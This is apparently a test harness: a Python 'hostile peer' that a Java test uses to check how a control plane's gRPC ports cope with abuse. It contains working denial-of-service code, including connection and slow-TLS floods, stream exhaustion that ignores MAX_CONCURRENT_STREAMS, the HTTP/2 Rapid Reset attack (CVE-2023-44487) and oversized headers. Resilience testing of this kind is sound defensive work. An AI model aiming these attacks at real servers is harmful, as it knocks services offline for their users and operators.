#!/usr/bin/python3
"""A hostile peer of the control plane's gRPC ports (svc-ca 15012, svc-xds 15010), built on
python-h2, not our HTTP/2 stack. It speaks TLS 1.3 with ALPN h2 and does not check the server (it is
the attacker). Prints one JSON line of what it saw, for the Java test to judge.

  [SOURCE_IP=a.b.c.d] grpc_hostile_peer.py HOST PORT SERVER_NAME ATTACK ARGS...

  connections N silent|preface HOLD_S
      opens N connections that finish TLS, then send nothing (silent) or only the HTTP/2 preface
      and SETTINGS (preface), prints {"opened": n}, and watches them HOLD_S seconds: how many the
      server closed, when, and with which GOAWAY code.
  tcp N HOLD_S
      opens N TCP connections that send one byte of a TLS record (a ClientHello that never comes),
      prints {"opened": n}, and watches them HOLD_S seconds: how many the server closed within 2 s
      of accept (before any TLS), and how many it still held at the end.
  streams N PATH TOKEN HOLD_S
      on one connection opens N gRPC calls (HEADERS without END_STREAM, no message), prints
      {"sent": n}, and watches HOLD_S seconds: how many the server reset (by code), answered, or
      left open.
  rapid-reset N PATH TOKEN
      on one connection sends up to N times HEADERS then RST_STREAM(CANCEL) (CVE-2023-44487),
      in bursts of 100, until the server says GOAWAY or closes.
  big-headers BYTES PATH TOKEN
      one gRPC call whose headers carry a value of BYTES bytes: what the server answers.
"""
import json
import os
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


class Unbounded(h2.connection.H2Connection):
    """Ignores the server's MAX_CONCURRENT_STREAMS: an attacker does not obey it."""

    @property
    def open_outbound_streams(self):
        return 0


host, port, server_name, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
args = sys.argv[5:]


def tls():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.set_alpn_protocols(["h2"])
    source = (os.environ["SOURCE_IP"], 0) if os.environ.get("SOURCE_IP") else None
    return ctx.wrap_socket(socket.create_connection((host, port), timeout=10, source_address=source),
                           server_hostname=server_name)


def h2conn():
    return Unbounded(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                      validate_outbound_headers=False))


def call_headers(path, token, extra=()):
    headers = [(":method", "POST"), (":scheme", "https"), (":authority", server_name), (":path", path),
               ("content-type", "application/grpc"), ("te", "trailers")]
    if token != "-":
        headers.append(("authorization", "Bearer " + token))
    return headers + list(extra)


class Watch:
    """What the server did on one connection."""

    def __init__(self):
        self.resets = {}
        self.answered = set()
        self.statuses = {}
        self.goaway = None
        self.closed = False
        self.max_streams = None

    def feed(self, conn, data):
        if not data:
            self.closed = True
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            self.goaway = self.goaway or {"code": -1, "debug": "protocol error: %s" % e}
            return
        for event in events:
            if isinstance(event, h2.events.StreamReset):
                self.resets[event.stream_id] = int(event.error_code)
            elif isinstance(event, h2.events.ResponseReceived) or isinstance(event, h2.events.TrailersReceived):
                self.answered.add(event.stream_id)
                for name, value in event.headers:
                    if name in (":status", "grpc-status"):
                        self.statuses.setdefault(event.stream_id, {})[name] = value
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = {"code": int(event.error_code),
                               "debug": (event.additional_data or b"").decode("utf-8", "replace")}
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if changed is not None:
                    self.max_streams = changed.new_value

    def read(self, sock, conn, seconds):
        """Reads until the connection ends or `seconds` pass."""
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            ready, _, _ = select.select([sock], [], [], max(0.0, min(0.5, end - time.monotonic())))
            if ready:
                try:
                    self.feed(conn, sock.recv(65536))
                    out = conn.data_to_send()
                    if out:
                        sock.sendall(out)
                except (OSError, h2.exceptions.ProtocolError):
                    self.closed = True


def reads(socks, closed, hold):
    """(index, bytes read) from the sockets not yet marked closed (closed[i] None), b"" at a close,
    for HOLD seconds or until the caller has marked all closed."""
    end = time.monotonic() + hold
    while time.monotonic() < end and any(t is None for t in closed):
        live = [s for s, t in zip(socks, closed) if t is None]
        ready, _, _ = select.select(live, [], [], 0.5)
        for s in ready:
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            yield socks.index(s), data


def connections(n, mode, hold):
    start = time.monotonic()
    socks, conns, watches, failed = [], [], [], 0
    for _ in range(n):
        try:
            s = tls()
        except OSError:
            failed += 1
            continue
        c = h2conn()
        if mode == "preface":
            c.initiate_connection()
            s.sendall(c.data_to_send())
        socks.append(s)
        conns.append(c)
        watches.append(Watch())
    opened = time.monotonic() - start
    print(json.dumps({"opened": len(socks)}), flush=True)
    closed_at = [None] * len(socks)
    for i, data in reads(socks, closed_at, hold):
        watches[i].feed(conns[i], data)
        if mode == "preface" and not watches[i].closed:  # silent ones do not even acknowledge SETTINGS
            try:
                out = conns[i].data_to_send()
                if out:
                    socks[i].sendall(out)
            except OSError:
                watches[i].closed = True
        if watches[i].closed:
            closed_at[i] = round(time.monotonic() - start, 2)
    goaways = {}
    for w in watches:
        if w.goaway:
            key = "%d %s" % (w.goaway["code"], w.goaway["debug"])
            goaways[key] = goaways.get(key, 0) + 1
    times = sorted(t for t in closed_at if t is not None)
    print(json.dumps({"handshaked": len(socks), "failed": failed, "open_at_end": closed_at.count(None),
                      "closed": len(times), "first_close_s": times[0] if times else None,
                      "last_close_s": times[-1] if times else None, "opening_s": round(opened, 2),
                      "goaways": goaways}), flush=True)
    for s in socks:
        s.close()


def tcp(n, hold):
    source = (os.environ["SOURCE_IP"], 0) if os.environ.get("SOURCE_IP") else None
    socks, opened_at, failed = [], [], 0
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=10, source_address=source)
        except OSError:
            failed += 1
            continue
        opened_at.append(time.monotonic())
        try:
            s.sendall(b"\x16")  # TLS handshake record type: the first byte of a ClientHello
        except OSError:
            pass  # closed already: seen below
        socks.append(s)
    print(json.dumps({"opened": len(socks)}), flush=True)
    closed_after = [None] * len(socks)
    for i, data in reads(socks, closed_after, hold):
        if not data:  # the server sends nothing before a ClientHello: anything readable is its close
            closed_after[i] = time.monotonic() - opened_at[i]
    print(json.dumps({"opened": len(socks), "failed": failed, "held": closed_after.count(None),
                      "closed_at_once": sum(1 for t in closed_after if t is not None and t < 2),
                      "closed_later": sum(1 for t in closed_after if t is not None and t >= 2)}), flush=True)
    for s in socks:
        s.close()


def streams(n, path, token, hold):
    sock, conn, w = tls(), h2conn(), Watch()
    conn.initiate_connection()
    sent = 0
    for i in range(n):
        try:
            conn.send_headers(1 + 2 * i, call_headers(path, token))
        except h2.exceptions.ProtocolError:
            break
        sent += 1
        if i % 100 == 99:
            sock.sendall(conn.data_to_send())
    sock.sendall(conn.data_to_send())
    print(json.dumps({"sent": sent}), flush=True)
    w.read(sock, conn, hold)
    codes = {}
    for code in w.resets.values():
        codes[str(code)] = codes.get(str(code), 0) + 1
    unanswered = sum(1 for i in range(sent) if (1 + 2 * i) not in w.resets and (1 + 2 * i) not in w.answered)
    print(json.dumps({"sent": sent, "max_concurrent_streams": w.max_streams, "resets": codes,
                      "answered": len(w.answered), "open_unanswered": unanswered, "goaway": w.goaway,
                      "closed": w.closed}), flush=True)


def rapid_reset(n, path, token):
    sock, conn, w = tls(), h2conn(), Watch()
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    start, sent, stream_id = time.monotonic(), 0, 1
    while sent < n and not w.goaway and not w.closed:
        try:
            for _ in range(100):
                conn.send_headers(stream_id, call_headers(path, token))
                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                stream_id += 2
                sent += 1
            sock.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            w.closed = True
            break
        w.read(sock, conn, 0.01)
    w.read(sock, conn, 2)
    print(json.dumps({"sent": sent, "goaway": w.goaway, "closed": w.closed,
                      "seconds": round(time.monotonic() - start, 2)}), flush=True)


def big_headers(size, path, token):
    sock, conn, w = tls(), h2conn(), Watch()
    conn.initiate_connection()
    conn.send_headers(1, call_headers(path, token, [("x-filler", "a" * size)]), end_stream=True)
    sock.sendall(conn.data_to_send())
    w.read(sock, conn, 5)
    print(json.dumps({"reset": w.resets.get(1), "status": w.statuses.get(1), "goaway": w.goaway,
                      "closed": w.closed}), flush=True)


if attack == "connections":
    connections(int(args[0]), args[1], float(args[2]))
elif attack == "tcp":
    tcp(int(args[0]), float(args[1]))
elif attack == "streams":
    streams(int(args[0]), args[1], args[2], float(args[3]))
elif attack == "rapid-reset":
    rapid_reset(int(args[0]), args[1], args[2])
elif attack == "big-headers":
    big_headers(int(args[0]), args[1], args[2])
else:
    sys.exit("unknown attack " + attack)
